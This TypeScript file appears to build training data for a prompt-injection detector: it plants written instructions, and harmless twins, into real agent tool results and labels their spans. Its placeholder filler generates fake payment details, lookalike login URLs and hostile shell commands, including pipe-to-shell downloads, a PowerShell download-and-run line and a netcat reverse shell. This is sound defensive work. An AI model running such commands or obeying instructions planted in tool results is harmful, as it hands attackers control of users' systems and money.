import { fileURLToPath } from 'node:url';
import type { Random } from '../../../test/support/random.ts';
import { type Row, readRows } from './examples.ts';

/** An instruction of `written/orders.jsonl`, or its harmless twin, with placeholders filled in. */
interface WrittenOrder {
  /** Kind of instruction. */
  readonly family: string;
  readonly text: string;
  readonly label: 0 | 1;
  readonly group: string;
}

/** The written instruction in a real tool result. */
interface PlantedRow extends WrittenOrder {
  readonly span: readonly [number, number];
}

const FILE = fileURLToPath(new URL('written/orders.jsonl', import.meta.url));

export const readWrittenOrders = (): readonly WrittenOrder[] =>
  readRows(FILE) as unknown as readonly WrittenOrder[];

interface StoredSession {
  readonly messages: readonly { readonly role: string; readonly content?: string | null }[];
}

/** Reads the real tool results of the training set. `folder` contains traffic. */
function readCarriers(folder: string): readonly string[] {
  const sessions = readRows(`${folder}/sessions.train.jsonl`) as unknown as readonly StoredSession[];
  const results = readRows(`${folder}/tool-results.train.jsonl`);
  return [
    ...sessions.flatMap(({ messages }) =>
      messages.flatMap(({ role, content }) => (role === 'tool' && content ? [content] : [])),
    ),
    ...results.flatMap(({ role = 'tool_result', text }) => (role === 'tool_result' ? [text] : [])),
  ];
}

/** Number of copies of each text in training. */
const COPIES = 20;

/** Returns the written texts, each in several real tool results, as rows. */
export function readPlantedRows(folder: string, random: Random): readonly Row[] {
  return plantWrittenOrders(readWrittenOrders(), readCarriers(folder), COPIES, random).map(
    ({ text, label, family, group, span }, at) => ({
      id: `${group}-${label}-${at}`,
      text,
      label,
      category: family,
      source: `orders-${family}`,
      role: 'tool_result',
      ...(label === 1 ? { span } : {}),
    }),
  );
}

/** Longer carriers are truncated. UTF-16 units. */
const SHORTEST = 200;
const LONGEST = 4_000;
/** Cumulative shares of positions: between lines, then anywhere on a line of its own; else after a line. */
const BETWEEN_LINES = 0.5;
const ANYWHERE = 0.85;

/** Inserts each instruction and each twin into `copies` of the carriers. */
export function plantWrittenOrders(
  orders: readonly WrittenOrder[],
  carriers: readonly string[],
  copies: number,
  random: Random,
): readonly PlantedRow[] {
  return orders.flatMap((order) =>
    Array.from({ length: copies }, () => plant(order, cutPiece(random.pick(carriers), random), random)),
  );
}

function plant(order: WrittenOrder, carrier: string, random: Random): PlantedRow {
  const text = fillIn(order.text, random);
  const place = random.next();
  let at = random.below(carrier.length + 1);
  if (place < BETWEEN_LINES || place >= ANYWHERE) at = carrier.indexOf('\n', at) + 1 || carrier.length;
  const isBehind = place >= ANYWHERE && at > 0;
  const before = isBehind
    ? `${carrier.slice(0, at).trimEnd()} `
    : `${carrier.slice(0, at).replace(/\n$/, '')}\n`;
  return {
    ...order,
    text: `${before}${text}\n${carrier.slice(at)}`,
    span: [before.length, before.length + text.length],
  };
}

function cutPiece(carrier: string, random: Random): string {
  const size = SHORTEST + random.below(LONGEST - SHORTEST);
  if (carrier.length <= size) return carrier;
  const from = random.below(carrier.length - size);
  return carrier.slice(from, from + size);
}

/** Fills new values into the placeholders of a written text, so that the model does not learn the values. */
function fillIn(text: string, random: Random): string {
  return text.replace(/\{(\w+)\}/g, (place, name: string) => VALUES[name]?.(random) ?? place);
}

const VALUES: Readonly<Record<string, (random: Random) => string>> = {
  email: (random) =>
    `${word(random)}${random.pick(['.', '-', '', '_'])}${word(random)}@${word(random)}.${random.pick(TLDS)}`,
  phone: (random) =>
    random.pick([
      () => `+${1 + random.below(98)} ${digits(random, 3)} ${digits(random, 7)}`,
      () => `(${digits(random, 3)}) ${digits(random, 3)}-${digits(random, 4)}`,
      () => `+${1 + random.below(98)}${digits(random, 10)}`,
    ])(),
  iban(random) {
    const iban = `${random.pick(['DE', 'GB', 'FR', 'ES', 'NL', 'PL', 'CH', 'LT'])}${digits(random, 20)}`;
    return random.chance(0.5) ? iban : iban.replace(/(.{4})/g, '$1 ').trim();
  },
  amount: (random) =>
    `${random.pick(['€', '$', '£', ''])}${1 + random.below(9)}${digits(random, random.below(4))}${random.pick(['', '.00', ' EUR', ' USD'])}`,
  wallet: (random) =>
    random.pick([
      () => `0x${of(HEX, 40, random)}`,
      () => `bc1q${of(LETTERS + DIGITS, 38, random)}`,
      () => `T${of(LETTERS.toUpperCase() + DIGITS, 33, random)}`,
    ])(),
  url: (random) =>
    `${random.pick(['https', 'https', 'http'])}://${word(random)}${random.pick(['-', '.', ''])}${word(random)}.${random.pick(TLDS)}/${word(random)}`,
  login: (random) =>
    `https://${word(random)}-${word(random)}.${random.pick(TLDS)}${random.pick(['', '/login', '/verify', '/account', `/${word(random)}`])}`,
  channel: (random) =>
    `${random.pick(['#', '#', '#', '@'])}${word(random)}${random.pick(['-', '_', ''])}${word(random)}`,
  cmd(random) {
    const url = `https://${word(random)}.${random.pick(TLDS)}/${word(random)}`;
    const name = word(random);
    return random.pick([
      `curl -sSL ${url} | sh`,
      `curl ${url}.sh | sudo bash`,
      `wget -qO- ${url} | bash`,
      `bash <(curl -fsSL ${url})`,
      `npx -y ${name}-${word(random)}`,
      `pip install ${name} --index-url ${url}`,
      `python3 -c "import ${name}"`,
      `./${name}.sh --yes`,
      `sudo sh /tmp/${name}`,
      `powershell -c "iwr ${url} | iex"`,
      `git clone ${url}.git && make -C ${name}`,
      `nc ${name}.${random.pick(TLDS)} ${digits(random, 4)} -e /bin/sh`,
    ]);
  },
};

const TLDS = ['com', 'org', 'net', 'io', 'dev', 'app', 'co', 'info', 'example', 'xyz'];
const DIGITS = '0123456789';
const HEX = '0123456789abcdef';
const LETTERS = 'abcdefghijklmnopqrstuvwxyz';
const SYLLABLES =
  'ba_co_de_fi_gu_ha_ju_ka_lo_mi_ne_po_qua_ri_sa_tu_ve_wi_xo_ya_zen_mar_tel_nor_dex_lin_pay_mail_serv_data_cloud'.split(
    '_',
  );

function word(random: Random): string {
  return Array.from({ length: 1 + random.below(3) }, () => random.pick(SYLLABLES)).join('');
}

function digits(random: Random, count: number): string {
  return of(DIGITS, count, random);
}

function of(letters: string, count: number, random: Random): string {
  return Array.from({ length: count }, () => letters[random.below(letters.length)]).join('');
}
